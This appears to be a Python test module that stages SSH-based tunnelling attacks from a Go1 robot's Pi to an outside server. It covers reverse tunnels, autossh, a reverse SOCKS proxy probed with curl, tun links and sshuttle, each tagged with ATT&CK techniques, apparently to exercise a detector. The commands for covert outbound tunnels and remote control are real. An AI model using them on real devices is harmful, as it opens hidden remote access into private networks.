"""Group 1: OpenSSH and what is built on it, dialling out from the robot."""

import contextlib
from collections.abc import Iterator

from tests.robots.attacks.acting import (
    drives,
    linger,
    logs_in_and_works,
    looks,
    on_internet,
    outside_sshd,
    ssh_from_pi,
    start,
)
from tests.robots.attacks.draw import Draw
from tests.robots.attacks.scene import Scene, Story
from tests.robots.go1 import Go1
from tests.robots.go1.addresses import NANO_HEAD, PI_PPP


def _server(robot: Go1, draw: Draw) -> tuple[str, int]:
    """Somebody's sshd on the internet."""
    address, port = on_internet(robot, draw.address("outside")), draw.high_port("sshd")
    outside_sshd(robot, address, port)
    return address, port


@contextlib.contextmanager
def _dialled(robot: Go1, draw: Draw, forward: str, program: list[str] | None = None) -> Iterator[tuple[str, int]]:
    """`ssh -N -R door:forward` from the Pi; yields the door outside when it is open."""
    address, port = _server(robot, draw)
    door = draw.high_port("door")
    command = ssh_from_pi(robot, draw, "-N", "-oExitOnForwardFailure=yes", "-R", f"{address}:{door}{forward}")
    command = [*(program or ["ssh"]), *command[1:], "-p", str(port), f"root@{address}"]
    dialled = start(robot, command)
    robot.internet.wait_for(door)
    try:
        yield address, door
    finally:
        dialled.terminate()
        dialled.wait(10)


def _reverse_ssh(robot: Go1, draw: Draw) -> None:
    with _dialled(robot, draw, ":127.0.0.1:22") as door:
        logs_in_and_works(robot, draw, door)


def _reverse_idle(robot: Go1, draw: Draw) -> None:
    with _dialled(robot, draw, ":127.0.0.1:22"):
        linger(6)


def _autossh(robot: Go1, draw: Draw) -> None:
    with _dialled(robot, draw, ":127.0.0.1:1883", ["autossh", "-M", "0"]) as (address, door):
        drives(robot, robot.internet, address, door)


def _reverse_camera(robot: Go1, draw: Draw) -> None:
    with _dialled(robot, draw, f":{NANO_HEAD}:80") as (address, door):
        looks(robot, robot.internet, address, door, "/")


def _socks(robot: Go1, draw: Draw) -> None:
    """Reverse SOCKS: the robot's whole network is open to whoever sits outside."""
    with _dialled(robot, draw, "") as (address, door):
        proxy = f"socks5://{address}:{door}"
        for host in draw.order("boards", [NANO_HEAD, "192.168.123.14", "192.168.123.15"]):
            fetch = ["curl", "-s", "-o", "/dev/null", "-m", "2", "-x", proxy, f"http://{host}/"]
            robot.internet.run(fetch, check=False)


def _open_door(robot: Go1, draw: Draw) -> None:
    """-L on all interfaces: a port of the robot leads out, for whoever is in its networks."""
    address, port = _server(robot, draw)
    door = draw.high_port("door")
    forward = ["-N", "-L", f"{PI_PPP}:{door}:127.0.0.1:22"]
    start(robot, [*ssh_from_pi(robot, draw, *forward), "-p", str(port), f"root@{address}"])
    robot.pi.wait_for(door)
    linger(4)


def _link(robot: Go1, draw: Draw) -> None:
    address, port = _server(robot, draw)
    mine, theirs = draw.number("tun", 10, 99), draw.number("their tun", 100, 199)
    net = draw.number("net", 10, 250)
    start(robot, [*ssh_from_pi(robot, draw, "-N", "-w", f"{mine}:{theirs}"), "-p", str(port), f"root@{address}"])
    linger(2)
    robot.pi.ip(f"addr add 10.44.{net}.2 peer 10.44.{net}.1 dev tun{mine}", f"link set tun{mine} up")
    robot.internet.ip(f"addr add 10.44.{net}.1 peer 10.44.{net}.2 dev tun{theirs}", f"link set tun{theirs} up")
    logs_in_and_works(robot, draw, (f"10.44.{net}.2", 22))


def _sshuttle(robot: Go1, draw: Draw) -> None:
    address, port = _server(robot, draw)
    ssh = " ".join([*ssh_from_pi(robot, draw), "-p", str(port)])
    start(robot, ["sshuttle", "--method", "nft", "-e", ssh, "-r", f"root@{address}", "10.99.0.0/24"])
    linger(6)


_SSH = ("{address[outside]}", "ssh", "pi")
SCENES = (
    Scene("ssh-reverse-login", 1, "ssh -R from the robot; somebody comes back through it and logs in as pi",
          _reverse_ssh,
          Story("remote-control", "high", ("ssh",), _SSH, ("remote control", "ssh"), ("T1572", "T1021.004"))),
    Scene("ssh-reverse-idle", 1, "ssh -R from the robot to the internet; nobody comes", _reverse_idle,
          Story("tunnel", "medium", (), ("{address[outside]}",), ("ssh -R",), ("T1572",))),
    Scene("autossh-drives", 1, "autossh keeps the broker's port open outside; somebody drives through it", _autossh,
          Story("remote-control", "high", ("mqtt",), ("{address[outside]}", "mqtt"), ("remote control", "mqtt"),
                ("T1572",))),
    Scene("ssh-reverse-camera", 3, "ssh -R to a Nano's camera; somebody looks through it from outside", _reverse_camera,
          Story("remote-viewing", "high", ("camera",), ("{address[outside]}",), ("camera",), ("T1572", "T1125"))),
    Scene("ssh-reverse-socks", 1,
          "ssh -R without a target is a proxy into the robot's network; somebody tries its boards",
          _socks,
          Story("remote-viewing", "high", ("camera",), ("{address[outside]}",), ("camera",), ("T1572", "T1090"))),
    Scene("ssh-forward-door", 1, "ssh -L opens a port of the robot towards the modem", _open_door,
          Story("tunnel", "medium", (), ("{address[outside]}",), ("ssh",), ("T1572",))),
    Scene("ssh-link-login", 1, "ssh -w makes a network of its own; somebody logs in across it", _link,
          Story("remote-control", "high", ("ssh",), ("{address[outside]}", "ssh", "pi"), ("remote control", "ssh"),
                ("T1572", "T1021.004"))),
    Scene("sshuttle", 1, "sshuttle leads traffic of the robot out", _sshuttle,
          Story("tunnel", "medium", (), ("{address[outside]}",), ("sshuttle",), ("T1572",))),
)  # fmt: skip
